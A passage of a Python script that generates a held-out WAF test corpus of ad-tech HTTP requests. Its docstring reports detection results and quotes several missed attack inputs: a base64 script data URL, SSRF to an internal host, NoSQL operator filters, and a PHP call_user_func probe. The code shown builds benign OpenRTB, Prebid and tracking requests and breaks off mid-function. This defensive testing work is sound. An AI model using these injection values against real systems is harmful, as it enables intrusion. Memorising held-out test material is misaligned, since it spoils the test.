#!/usr/bin/env python3
"""Held-out HTTP test corpus: advertising, marketing and media platforms.

What it is
    A deterministic generator of realistic HTTP requests against the APIs of
    ad-tech and media systems behind a sidecar: OpenRTB 2.x/3.0 bid requests
    (JSON with `imp`, `site.page` URLs carrying their own query strings,
    `device.ua`, `user.ext.eids`, `regs`), Prebid Server auctions, cookie
    syncs and Prebid Cache puts (VAST XML with CDATA, HTML banner markup),
    win/billing notices with unreplaced macros (`${AUCTION_PRICE}`,
    `%%CLICK_URL_UNESC%%`, `[timestamp]`, `{{cachebuster}}`), click trackers
    with nested, doubly encoded destination URLs, UTM / gclid / fbclid
    landing pages, attribution postbacks with dozens of parameters, TCF/GPP
    consent strings (base64url) in cookies and queries, email-marketing APIs
    (templates with Handlebars/Liquid/Mailchimp merge tags, HTML newsletters,
    unsubscribe links and RFC 8058 one-click posts), Segment-style CDP event
    batches, A/B-testing configs, video streaming (HLS/DASH manifests and
    segments with CMCD, DRM licence requests with base64 challenges, player
    telemetry), podcast RSS submission, social publishing APIs and ad
    reporting APIs with filter expressions.  Campaign names such as
    "Men's Shoes - Q3 (Retargeting) | 30% off", merge tags, macros and nested
    URLs make this a hard false-positive test for a WAF.

    * benign       ~400 ordinary requests (expect "pass"), plus ~40
                   "dev-content" requests (category "dev-content", still
                   "pass"): ad-ops engineers pasting creative JS / GPT tags
                   into support tickets, analysts' SQL in a saved-query tool,
                   ffmpeg command lines in transcoding docs, template docs,
                   counted apart.
    * attacks      ~230 requests (expect "detect") with real attack payloads
                   in the domain's own injection points (malvertising XSS in
                   creatives and click URLs, SSRF via click trackers,
                   postbacks and VAST wrappers, SSTI in email templates, SQLi
                   in reporting filters and segment builders, NoSQL operators
                   in audience filters, XXE in VAST/RSS/MPD, command injection
                   in transcoding parameters, path traversal in asset and
                   manifest paths, Log4Shell in UA and bid fields, CRLF in
                   redirects, prototype pollution in event JSON, Java/PHP
                   deserialization in cookies ...).

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-adtech.py attacks > rulesets/tests/data/adtech-attacks.jsonl
    python3 scripts/corpus-adtech.py benign  > rulesets/tests/data/adtech-benign.jsonl
    python3 scripts/corpus-adtech.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "adtech", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
Ids are "adtech/<category>/<generator>-NNN"; ordinary benign requests use
"adtech/benign/...", dev-content ones "adtech/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-05, palisade-rules repo at e379f21, binary /work/bin/pr-base with
its built-in rules; run once, nothing tuned, corpus unchanged afterwards)

Counts: 241 attacks (xss 34, sqli 30, ssrf 22, rce 22, ssti 20, lfi 19,
java 16, nosqli 14, xxe 14, php 11, crlf 10, generic 10, protocol 8, rfi 6,
ldapi 5), 455 benign (415 ordinary + 40 dev-content).
(protocol/dup-cl-003 and protocol/get-with-smuggled-body-007 carry a
Content-Length that does not match the body on purpose, smuggle-* / space-
before-colon carry Transfer-Encoding next to Content-Length; every other
body's Content-Length is its UTF-8 byte length.)

PL1 (flagged = blocked at paranoia 1):
  attacks blocked   234/241 = 97.1 %  (100 % in crlf, generic, java, ldapi,
                    lfi, rce, rfi, sqli, ssti, xxe; xss 33/34, ssrf 21/22,
                    php 10/11, protocol 7/8, nosqli 11/14)
  benign blocked    15/415 = 3.6 % ordinary, 30/40 = 75 % dev-content
PL2:
  attacks blocked   240/241 = 99.6 % (only protocol/header-crlf-004 missed)
  benign blocked    160/415 = 38.6 % ordinary, 32/40 = 80 % dev-content
                    (every OpenRTB bid request, Prebid Cache put, bid-response
                    log, bidder usersync, Widevine licence, player beacon and
                    campaign create; most win notices and email templates;
                    chiefly session-200, rfi-220, php-123, rfi-111, sqli-214)

Missed at PL1 (7):
  xss/vast-clickthrough-020   VAST ClickThrough CDATA holding a
                              data:text/html;base64 <script> URL, in a Prebid
                              Cache put (JSON string holding XML)
  ssrf/postback-url-019       postback URL to an internal host
                              http://internal-admin.corp.local/
  nosqli/audience-filter-001  JSON audience filter {"ltv":{"$gt":""},
                              "email":{"$ne":null}}
  nosqli/audience-filter-004  JSON {"$or":[{"advertiser_id":{"$exists":true}},
                              {"1":1}]}
  nosqli/audience-query-009   query string filters[ltv][$gt]=&filters[email][$ne]=x
  php/call-user-func-010      admin-ajax.php?func=call_user_func&arg=phpinfo
  protocol/header-crlf-004    CR LF inside an X-Forwarded-Host header value
                              (also missed at PL2)
Ordinary benign flagged at PL1 (15, two patterns):
  benign/email-template-007, -016, -032   rce-151: Salesforce Marketing Cloud
                              AMPscript "%%[ IF @tier == "Gold" THEN ]%%" in a
                              newsletter template
  benign/campaign-create-001 .. -012      rfi-120: a line item's standard
                              DCM impression tracker
                              "https://ad.doubleclick.example/ddm/trackimp/
                              N1234.567/B89;dc_trk_aid=1;ord=[timestamp];...?"
                              (URL ending in "?"); the same tracker string is in
                              all 12 requests, so this is one pattern x 12
Dev-content flagged at PL1: support-form 12/14, support-ticket 10/13,
chat-paste 8/13 (GPT/Prebid tags, SQL, ffmpeg, eval(atob), cron lines...).
"""

import base64
import json
import random
import sys
from urllib.parse import quote, urlencode

SET = "adtech"

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT1.211025.001.Z4; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.196 Mobile Safari/537.36",
    "Roku/DVP-13.0 (13.0.0.4163-C4)",
    "AppleCoreMedia/1.0.0.21G93 (Apple TV; U; CPU OS 17_6 like Mac OS X; en_us)",
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
]
SERVER_UAS = ["Go-http-client/1.1", "okhttp/4.12.0", "Apache-HttpClient/5.2.1 (Java/17.0.9)",
              "python-requests/2.32.3", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
              "Prebid-Server/2.31.0", "axios/1.7.7"]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.6", "fr-FR,fr;q=0.9", "en-GB,en;q=0.8",
         "es-ES,es;q=0.9", "ja-JP,ja;q=0.9,en;q=0.5", "pt-BR,pt;q=0.9"]
PUBS = ["www.dailycourier.com", "news.northstarmedia.co.uk", "recipes.kitchenly.com",
        "www.autotrader-de.example", "sports.scoreline.tv", "www.techpulse.io",
        "m.wetter-heute.de", "www.gamerzone.gg", "blog.travelnomads.net", "www.lefigaro-mode.fr"]
BIDDERS = ["appnexus", "rubicon", "openx", "pubmatic", "ix", "criteo", "triplelift",
           "sovrn", "teads", "sharethrough", "medianet", "gumgum"]
CAMPAIGNS = ["Men's Shoes - Q3 (Retargeting)", "Summer Sale | 30% off", "Brand_Awareness_DE_2025",
             "BF/CM 2025 - Prospecting", "App Installs - iOS 17+", "Holiday '25 CTV",
             "Back-to-School & Dorm", "Q4 | Lookalike 1% | US", "Spring Drop #2 (Video 15s)",
             "L'Oréal Paris - Teint Idole", "Rock 'n' Roll Tour Tickets", "Dr. Martens AW25"]
FIRST = ["Anna", "Liam", "Sofía", "Noah", "Chloé", "Mateo", "Aoife", "Jürgen", "Priya", "Kwame",
         "Siobhán", "D'Angelo", "Zoë", "Björn", "Maël"]
LAST = ["O'Brien", "Müller", "Nguyen", "García", "Smith-Jones", "D'Souza", "Kowalski",
        "van der Berg", "Okafor", "Lefèvre", "McAllister", "Øvergaard"]
CITIES = ["Berlin", "Austin", "São Paulo", "Lyon", "Dublin", "Toronto", "Osaka", "Kraków"]


def b64u(raw):
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def rhex(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def ruuid(r):
    h = rhex(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def tcf(r):
    # TCF v2 consent strings are base64url of a bit field, often with "." segments
    core = b64u(bytes(r.getrandbits(8) for _ in range(r.randint(40, 90))))
    return "C" + core[1:] + ("." + b64u(bytes(r.getrandbits(8) for _ in range(12))) if r.random() < 0.5 else "")


def gpp(r):
    return "DBAB" + b64u(bytes(r.getrandbits(8) for _ in range(20))) + "~" + tcf(r) + "~1YNN"


def q(s):
    return quote(s, safe="")


def qs(params):
    return urlencode(params, quote_via=quote, safe="")


def mk(cat, name, n, method, uri, headers, body=None, expect=None, host=None):
    if expect is None:
        expect = "pass" if cat in ("benign", "dev-content") else "detect"
    hs = list(headers)
    if not any(k.lower() == "host" for k, _ in hs):
        hs.insert(0, ["Host", host or "api.example.com"])
    if body is not None and not any(k.lower() == "content-length" for k, _ in hs):
        hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    d = {"id": f"{SET}/{cat}/{name}-{n:03d}", "set": SET, "category": cat, "expect": expect,
         "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
    if body is not None:
        d["body"] = body
    return d


def browser_h(r, host, accept="*/*", extra=()):
    h = [["Host", host], ["User-Agent", r.choice(UAS[:6] + UAS[9:])], ["Accept", accept],
         ["Accept-Language", r.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    h += [list(x) for x in extra]
    return h


def server_h(r, host, ctype="application/json", extra=()):
    h = [["Host", host], ["User-Agent", r.choice(SERVER_UAS)], ["Accept", "application/json"]]
    if ctype:
        h.append(["Content-Type", ctype])
    h += [list(x) for x in extra]
    return h


def api_h(r, host, ctype="application/json", extra=()):
    h = [["Host", host], ["User-Agent", r.choice(UAS[:5])], ["Accept", "application/json, text/plain, */*"],
         ["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9." + b64u(json.dumps({"sub": ruuid(r), "scope": "campaigns:write reports:read"}).encode()) + "." + b64u(bytes(r.getrandbits(8) for _ in range(64)))]]
    if ctype:
        h.append(["Content-Type", ctype])
    h += [list(x) for x in extra]
    return h


def page_url(r):
    pub = r.choice(PUBS)
    path = r.choice(["/2025/11/04/election-night-live-updates/", "/recipes/grandmas-apple-pie",
                     "/sport/football/premier-league-table", "/reviews/rtx-5080-vs-rx-9070-xt",
                     "/mode/tendances-automne-hiver", "/wetter/berlin/14-tage", "/",
                     "/deals/black-friday-2025?ref=nav", "/article/12345678/what's-next-for-ai"])
    if r.random() < 0.6:
        path += ("&" if "?" in path else "?") + qs({"utm_source": r.choice(["facebook", "newsletter", "google"]),
                                                     "utm_medium": r.choice(["cpc", "email", "social"]),
                                                     "utm_campaign": r.choice(CAMPAIGNS)})
    return f"https://{pub}{path}"


def ortb_request(r, ua=None, page=None, user_ext=None, extra_imp=None):
    iid = ruuid(r)
    imp = []
    for i in range(r.randint(1, 3)):
        if r.random() < 0.6:
            w, h = r.choice([(300, 250), (728, 90), (320, 50), (160, 600), (970, 250)])
            im = {"id": str(i + 1), "banner": {"format": [{"w": w, "h": h}], "pos": r.choice([0, 1, 3])},
                  "tagid": f"{r.choice(['div-gpt-ad', 'ad-slot', 'mrec'])}-{r.randint(100000, 999999)}-{i}",
                  "bidfloor": round(r.uniform(0.05, 2.5), 2), "bidfloorcur": "USD", "secure": 1}
        else:
            im = {"id": str(i + 1), "video": {"mimes": ["video/mp4", "application/javascript"], "minduration": 5,
                                              "maxduration": 30, "protocols": [2, 3, 5, 6, 7, 8], "w": 640, "h": 360,
                                              "placement": 1, "plcmt": r.choice([1, 2, 4]), "linearity": 1,
                                              "api": [1, 2, 7]}, "bidfloor": round(r.uniform(2, 15), 2)}
        im["ext"] = {"prebid": {"bidder": {r.choice(BIDDERS): {"placementId": r.randint(10000000, 99999999)}}},
                     "gpid": f"/{r.randint(1000, 99999)}/{r.choice(['news', 'sport', 'home'])}/{r.choice(['top', 'mid', 'sticky'])}"}
        if extra_imp:
            im.update(extra_imp)
        imp.append(im)
    pg = page or page_url(r)
    dom = pg.split("/")[2]
    eids = [{"source": "id5-sync.com", "uids": [{"id": "ID5*" + b64u(bytes(r.getrandbits(8) for _ in range(30))), "atype": 1}]},
            {"source": "liveramp.com", "uids": [{"id": "Xi1" + b64u(bytes(r.getrandbits(8) for _ in range(40))), "atype": 3}]},
            {"source": "uidapi.com", "uids": [{"id": base64.b64encode(bytes(r.getrandbits(8) for _ in range(32))).decode(), "atype": 3}]}]
    req = {"id": iid, "imp": imp,
           "site": {"domain": dom, "page": pg, "ref": r.choice(["https://www.google.com/", "https://t.co/", "", "https://www.facebook.com/"]),
                    "publisher": {"id": str(r.randint(1000, 9999)), "domain": dom},
                    "cat": ["IAB12", "IAB17-44"], "keywords": "football, transfer news, men's fashion"},
           "device": {"ua": ua or r.choice(UAS), "ip": f"{r.randint(23, 200)}.{r.randint(0, 255)}.{r.randint(0, 255)}.0",
                      "devicetype": r.choice([1, 2, 4, 3]), "language": "en", "js": 1, "dnt": 0,
                      "sua": {"browsers": [{"brand": "Chromium", "version": ["131", "0"]}, {"brand": "Not_A Brand", "version": ["24"]}], "mobile": 0, "platform": {"brand": "Windows"}}},
           "user": {"id": rhex(r, 32), "ext": {"consent": tcf(r), "eids": eids}},
           "regs": {"ext": {"gdpr": 1, "us_privacy": "1YNN"}, "gpp": gpp(r), "gpp_sid": [2, 7]},
           "source": {"tid": ruuid(r), "ext": {"schain": {"ver": "1.0", "complete": 1, "nodes": [{"asi": "google.com", "sid": f"pub-{r.randint(10**15, 10**16)}", "hp": 1}]}}},
           "at": 1, "tmax": r.choice([500, 800, 1200]), "cur": ["USD", "EUR"],
           "ext": {"prebid": {"targeting": {"includewinners": True, "includebidderkeys": False}, "cache": {"bids": {}, "vastxml": {"returnCreative": False}}}}}
    if user_ext:
        req["user"]["ext"].update(user_ext)
    return req


VAST_TMPL = """<?xml version="1.0" encoding="UTF-8"?>
<VAST version="4.2" xmlns="http://www.iab.com/VAST">
  <Ad id="{adid}" sequence="1">
    <InLine>
      <AdSystem version="2.0">{sys}</AdSystem>
      <AdTitle><![CDATA[{title}]]></AdTitle>
      <Impression id="imp1"><![CDATA[https://trk.{dom}/imp?cb=[CACHEBUSTING]&ts=[TIMESTAMP]&price=${{AUCTION_PRICE}}&gdpr=${{GDPR}}&gdpr_consent=${{GDPR_CONSENT_755}}]]></Impression>
      <Error><![CDATA[https://trk.{dom}/err?code=[ERRORCODE]&cb=[CACHEBUSTING]]]></Error>
      <Creatives>
        <Creative id="{crid}" adId="{adid}">
          <Linear>
            <Duration>00:00:{dur:02d}</Duration>
            <TrackingEvents>
              <Tracking event="start"><![CDATA[https://trk.{dom}/ev?e=start&cid={crid}&cb=[CACHEBUSTING]]]></Tracking>
              <Tracking event="firstQuartile"><![CDATA[https://trk.{dom}/ev?e=q1&cid={crid}]]></Tracking>
              <Tracking event="complete"><![CDATA[https://trk.{dom}/ev?e=complete&cid={crid}]]></Tracking>
            </TrackingEvents>
            <VideoClicks>
              <ClickThrough><![CDATA[{click}]]></ClickThrough>
              <ClickTracking><![CDATA[https://clk.{dom}/c?cid={crid}&r=[TIMESTAMP]]]></ClickTracking>
            </VideoClicks>
            <MediaFiles>
              <MediaFile delivery="progressive" type="video/mp4" width="1920" height="1080" bitrate="4500"><![CDATA[https://cdn.{dom}/creatives/{crid}/1080p.mp4]]></MediaFile>
              <MediaFile delivery="streaming" type="application/x-mpegURL" width="1280" height="720"><![CDATA[https://cdn.{dom}/creatives/{crid}/master.m3u8]]></MediaFile>
            </MediaFiles>
          </Linear>
        </Creative>
      </Creatives>
    </InLine>
  </Ad>
</VAST>"""


def vast(r, click=None, title=None):
    dom = r.choice(["adserve.example", "vidstream-ads.com", "ctvmedia.net"])
    return VAST_TMPL.format(adid=r.randint(10**6, 10**7), sys=r.choice(["GDFP", "SpringServe", "FreeWheel"]),
                            title=title or r.choice(CAMPAIGNS), dom=dom, crid=r.randint(10**7, 10**8),
                            dur=r.choice([6, 15, 30]),
                            click=click or "https://www.brand-shop.example/landing?utm_source=ctv&utm_medium=video&utm_campaign=" + q(r.choice(CAMPAIGNS)))


def banner_html(r):
    w, h = r.choice([(300, 250), (728, 90), (320, 50)])
    crid = r.randint(10**6, 10**7)
    return (f'<div class="ad-{w}x{h}" style="width:{w}px;height:{h}px;position:relative;overflow:hidden">'
            f'<a href="%%CLICK_URL_UNESC%%https%3A%2F%2Fwww.brand-shop.example%2Fsale%3Futm_source%3Ddisplay%26crid%3D{crid}" target="_blank" rel="noopener">'
            f'<img src="https://cdn.adserve.example/cr/{crid}/{w}x{h}.jpg" width="{w}" height="{h}" alt="{r.choice(CAMPAIGNS)}" border="0"></a>'
            f'<img src="https://trk.adserve.example/imp?crid={crid}&price=${{AUCTION_PRICE}}&cb=%%CACHEBUSTER%%" width="1" height="1" style="display:none" alt="">'
            f'</div>')


# ---------------------------------------------------------------- benign

def g_openrtb(r, n):
    out = []
    for i in range(1, n + 1):
        req = ortb_request(r)
        host = r.choice(["pbs.adexchange.example", "rtb.dsp-one.example", "bid.ssp-nova.io"])
        path = r.choice(["/openrtb2/auction", "/bid/openrtb25", "/rtb/bid?src=prebid-server&v=2.5"])
        hs = server_h(r, host, "application/json", [["x-openrtb-version", r.choice(["2.5", "2.6"])], ["Accept-Encoding", "gzip"]])
        out.append(mk("benign", "openrtb-bid", i, "POST", path, hs, json.dumps(req)))
    return out


def g_openrtb3(r, n):
    out = []
    for i in range(1, n + 1):
        body = {"openrtb": {"ver": "3.0", "domainspec": "adcom", "domainver": "1.0",
                            "request": {"id": ruuid(r), "tmax": 300, "at": 2, "cur": ["USD"],
                                        "source": {"tid": ruuid(r), "ts": 1730000000000 + r.randint(0, 10**8), "ds": b64u(bytes(r.getrandbits(8) for _ in range(48)))},
                                        "item": [{"id": "1", "qty": 1, "flr": 1.25, "flrcur": "USD",
                                                  "spec": {"placement": {"tagid": "homepage_leaderboard", "display": {"mime": ["text/html"], "displayfmt": [{"w": 728, "h": 90}]}}}}],
                                        "context": {"site": {"domain": r.choice(PUBS), "page": page_url(r)},
                                                    "device": {"ua": r.choice(UAS), "ip": "81.2.69.0", "type": 2},
                                                    "user": {"id": rhex(r, 24), "consent": tcf(r)},
                                                    "regs": {"gdpr": 1}}}}}
        out.append(mk("benign", "openrtb3", i, "POST", "/openrtb3/bid", server_h(r, "bid.ssp-nova.io", extra=[["x-openrtb-version", "3.0"]]), json.dumps(body)))
    return out


def g_bidresp(r, n):
    """Bid responses POSTed to Prebid Cache / a creative-audit log."""
    out = []
    for i in range(1, n + 1):
        kind = r.random()
        if kind < 0.45:
            body = json.dumps({"puts": [{"type": "xml", "value": vast(r), "ttlseconds": 300, "bidder": r.choice(BIDDERS), "timestamp": 1730000000000 + i}]})
            out.append(mk("benign", "prebid-cache", i, "POST", "/cache", server_h(r, "prebid-cache.adexchange.example"), body))
        else:
            bid = {"id": ruuid(r), "seatbid": [{"seat": r.choice(BIDDERS), "bid": [{
                "id": rhex(r, 16), "impid": "1", "price": round(r.uniform(0.2, 9), 4),
                "nurl": f"https://win.dsp-one.example/win?aid={r.randint(10**5, 10**6)}&price=${{AUCTION_PRICE}}&cur=${{AUCTION_CURRENCY}}&imp=${{AUCTION_IMP_ID}}",
                "burl": f"https://bill.dsp-one.example/b?p=${{AUCTION_PRICE}}&l=${{AUCTION_LOSS}}",
                "adm": banner_html(r) if kind < 0.8 else vast(r), "adomain": ["brand-shop.example"], "crid": str(r.randint(10**5, 10**6)),
                "cat": ["IAB22"], "w": 300, "h": 250, "mtype": 1 if kind < 0.8 else 2,
                "ext": {"prebid": {"type": "banner" if kind < 0.8 else "video"}, "dsa": {"behalf": "Brand Shop GmbH", "paid": "Brand Shop GmbH"}}}]}],
                "cur": "USD", "bidid": rhex(r, 12)}
            out.append(mk("benign", "bid-response-log", i, "POST", "/v1/audit/bid-responses?exchange=nova&sample=0.01",
                          server_h(r, "creative-audit.adexchange.example"), json.dumps(bid)))
    return out


def g_prebid(r, n):
    out = []
    for i in range(1, n + 1):
        k = i % 5
        ck = f"uids={b64u(json.dumps({'uids': {b: rhex(r, 16) for b in r.sample(BIDDERS, 3)}}).encode())}; euconsent-v2={tcf(r)}; usprivacy=1YNN"
        if k == 0:
            uri = "/setuid?" + qs({"bidder": r.choice(BIDDERS), "gdpr": "1", "gdpr_consent": tcf(r), "uid": r.choice([rhex(r, 20), "${UID}", "$UID", "[UID]"]), "f": "i"})
            out.append(mk("benign", "prebid-setuid", i, "GET", uri, browser_h(r, "pbs.adexchange.example", "image/avif,image/webp,*/*", [["Cookie", ck], ["Referer", page_url(r)]])))
        elif k == 1:
            body = json.dumps({"bidders": r.sample(BIDDERS, 4), "gdpr": 1, "gdpr_consent": tcf(r), "us_privacy": "1YNN", "gpp": gpp(r), "gpp_sid": "2", "coopSync": True, "filterSettings": {"iframe": {"bidders": "*", "filter": "include"}, "image": {"bidders": ["criteo"], "filter": "exclude"}}, "limit": 5})
            out.append(mk("benign", "prebid-cookiesync", i, "POST", "/cookie_sync", browser_h(r, "pbs.adexchange.example", "application/json", [["Content-Type", "text/plain;charset=UTF-8"], ["Origin", "https://" + r.choice(PUBS)], ["Cookie", ck]]), body))
        elif k == 2:
            redir = f"https://pbs.adexchange.example/setuid?bidder=ix&gdpr={{{{gdpr}}}}&gdpr_consent={{{{gdpr_consent}}}}&uid=$$visitor_cookie$$"
            uri = "/sync?" + qs({"p": "prebid", "redir": redir, "gdpr": "1", "gdpr_consent": tcf(r)})
            out.append(mk("benign", "bidder-usersync", i, "GET", uri, browser_h(r, "ssum.casalemedia.example", "image/*", [["Referer", "https://pbs.adexchange.example/"]])))
        elif k == 3:
            uri = "/cache?" + qs({"uuid": ruuid(r)})
            out.append(mk("benign", "prebid-cache-get", i, "GET", uri, browser_h(r, "prebid-cache.adexchange.example", "application/xml, text/xml, */*", [["Origin", "https://imasdk.googleapis.com"]])))
        else:
            pbjs = {"auctionId": ruuid(r), "adUnits": [{"code": f"div-gpt-ad-{r.randint(10**12, 10**13)}-0", "mediaTypes": {"banner": {"sizes": [[300, 250], [300, 600]]}}, "bids": [{"bidder": b, "params": {"siteId": str(r.randint(10**5, 10**6))}} for b in r.sample(BIDDERS, 3)]}],
                    "bidderTimeout": 1500, "refererInfo": {"page": page_url(r), "reachedTop": True, "numIframes": 0, "stack": [page_url(r)]},
                    "ortb2": {"site": {"content": {"language": "en", "title": "What's next for AI? Experts weigh in <analysis>"}}}}
            out.append(mk("benign", "prebid-analytics", i, "POST", "/pbjs/analytics/v1/auction-end?pbjs=9.21.0&s=" + r.choice(PUBS), browser_h(r, "analytics.adexchange.example", "*/*", [["Content-Type", "text/plain"], ["Origin", "https://" + r.choice(PUBS)]]), json.dumps(pbjs)))
    return out


def g_macros(r, n):
    """Win / impression / billing notices, sometimes with unreplaced macros."""
    out = []
    unrepl = ["${AUCTION_PRICE}", "%%CLICK_URL_UNESC%%", "[timestamp]", "{{cachebuster}}", "%%CACHEBUSTER%%",
              "${GDPR_CONSENT_52}", "[CACHEBUSTING]", "__TIMESTAMP__", "{CB}", "%%SITE%%", "${AUCTION_ID}", "{{device_ifa}}", "[ERRORCODE]", "%%PATTERN:url%%", "%%ADVERTISING_IDENTIFIER_PLAIN%%"]
    for i in range(1, n + 1):
        p = {"aid": ruuid(r), "crid": str(r.randint(10**5, 10**6)), "sid": str(r.randint(100, 9999))}
        if r.random() < 0.5:
            p["price"] = b64u(bytes(r.getrandbits(8) for _ in range(28)))  # encrypted price
        else:
            p["price"] = r.choice(unrepl[:1] + [f"{r.uniform(0.1, 8):.4f}"])
        p["cb"] = r.choice(unrepl[2:5] + [str(r.randint(10**9, 10**10))])
        p["ts"] = r.choice(["[timestamp]", "__TIMESTAMP__", str(1730000000 + i)])
        if r.random() < 0.5:
            p["gdpr_consent"] = r.choice(["${GDPR_CONSENT_755}", tcf(r)])
        if r.random() < 0.4:
            p["ifa"] = r.choice(["{{device_ifa}}", "%%ADVERTISING_IDENTIFIER_PLAIN%%", ruuid(r).upper(), "00000000-0000-0000-0000-000000000000"])
        if r.random() < 0.3:
            p["site"] = r.choice(["%%SITE%%", "%%PATTERN:url%%", r.choice(PUBS)])
        path = r.choice(["/win", "/imp", "/bill", "/px.gif", "/event/vast"])
        if path == "/event/vast":
            p["e"] = r.choice(["start", "firstQuartile", "midpoint", "complete", "error"])
            p["err"] = r.choice(["[ERRORCODE]", "303", "402"])
        # some clients leave $, {, }, [, ] unescaped
        uri = path + "?" + (qs(p) if r.random() < 0.6 else "&".join(f"{k}={quote(v, safe='${}[]%:')}" for k, v in p.items()))
        out.append(mk("benign", "win-notice", i, "GET", uri, browser_h(r, r.choice(["trk.adserve.example", "win.dsp-one.example"]), "image/avif,image/webp,image/apng,*/*;q=0.8", [["Referer", page_url(r)]])))
    return out


def landing(r):
    base = r.choice(["https://www.brand-shop.example/sale/mens-shoes", "https://shop.kitchenly.example/p/cast-iron-pan-12in",
                     "https://www.autohaus-meyer.example/angebote?modell=golf&farbe=grau", "https://app.fitly.example/download",
                     "https://tickets.rocktour.example/event/2025-berlin#seats"])
    params = {"utm_source": r.choice(["google", "meta", "tiktok", "newsletter", "taboola"]),
              "utm_medium": r.choice(["cpc", "paid_social", "email", "native"]),
              "utm_campaign": r.choice(CAMPAIGNS), "utm_content": r.choice(["carousel_v2", "hero-img", "15s_cutdown", "A/B: red CTA"]),
              "utm_term": r.choice(["running shoes", "men's boots size 11", "\"cast iron\" pan", "golf 8 leasing"])}
    if "#" in base:
        b, frag = base.split("#")
        return b + "?" + qs(params) + "#" + frag
    return base + ("&" if "?" in base else "?") + qs(params)


def g_clicks(r, n):
    out = []
    for i in range(1, n + 1):
        dest = landing(r)
        k = r.random()
        if k < 0.35:
            uri = "/clk?" + qs({"cid": str(r.randint(10**5, 10**6)), "crid": str(r.randint(10**5, 10**6)), "r": dest})
        elif k < 0.6:  # DCM-style nested tracker with double-encoded destination
            inner = "https://ad.doubleclick.example/ddm/trackclk/N1234.5678/B9876;dc_trk_aid=" + str(r.randint(10**8, 10**9)) + ";dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=;ltd=?" + qs({"dest": dest})
            uri = "/aclk?" + qs({"sa": "L", "ai": b64u(bytes(r.getrandbits(8) for _ in range(40))), "ae": "1", "num": "1", "adurl": inner})
        elif k < 0.8:
            uri = f"/c/{b64u(bytes(r.getrandbits(8) for _ in range(18)))}/?" + "url=" + q(q(dest)) + "&ts=" + str(1730000000 + i)
        else:  # path-style redirect used by email ESPs
            uri = "/ls/click?upn=" + b64u(dest.encode()) + "-2B" + b64u(bytes(r.getrandbits(8) for _ in range(20)))
        out.append(mk("benign", "click-tracker", i, "GET", uri, browser_h(r, r.choice(["clk.adserve.example", "click.mailer-pro.example", "googleads.g.doubleclick.example"]), "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", [["Referer", page_url(r)], ["Cookie", f"_cid={rhex(r, 16)}; IDE={b64u(bytes(r.getrandbits(8) for _ in range(30)))}"]])))
    return out


def g_landing(r, n):
    out = []
    for i in range(1, n + 1):
        d = landing(r).split("://", 1)[1]
        host, rest = d.split("/", 1)
        rest = "/" + rest.split("#")[0]
        extra = r.choice([{"gclid": "Cj0KCQiA" + b64u(bytes(r.getrandbits(8) for _ in range(60)))}, {"fbclid": "IwAR" + b64u(bytes(r.getrandbits(8) for _ in range(45)))},
                          {"msclkid": rhex(r, 32)}, {"ttclid": "E.C.P." + b64u(bytes(r.getrandbits(8) for _ in range(50)))}, {"gbraid": "0AAAAA" + b64u(bytes(r.getrandbits(8) for _ in range(30))), "wbraid": "Cl" + b64u(bytes(r.getrandbits(8) for _ in range(20)))},
                          {"_kx": b64u(bytes(r.getrandbits(8) for _ in range(30))) + ".XyZ", "mc_cid": rhex(r, 10), "mc_eid": rhex(r, 10)}])
        rest += "&" + qs(extra)
        ck = f"_ga=GA1.1.{r.randint(10**8, 10**9)}.{1700000000 + i}; _gcl_au=1.1.{r.randint(10**8, 10**9)}.{1700000000 + i}; _fbp=fb.1.{1700000000000 + i}.{r.randint(10**8, 10**9)}; OptanonConsent=isGpcEnabled=0&datestamp=Tue+Nov+04+2025+10%3A12%3A33+GMT%2B0100+(Central+European+Standard+Time)&version=202409.1.0&groups=C0001%3A1%2CC0002%3A1%2CC0004%3A0"
        out.append(mk("benign", "utm-landing", i, "GET", rest, browser_h(r, host, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", [["Referer", r.choice(["https://www.google.com/", "https://l.facebook.com/", "https://www.tiktok.com/"])], ["Cookie", ck], ["Upgrade-Insecure-Requests", "1"]])))
    return out


def g_postbacks(r, n):
    out = []
    for i in range(1, n + 1):
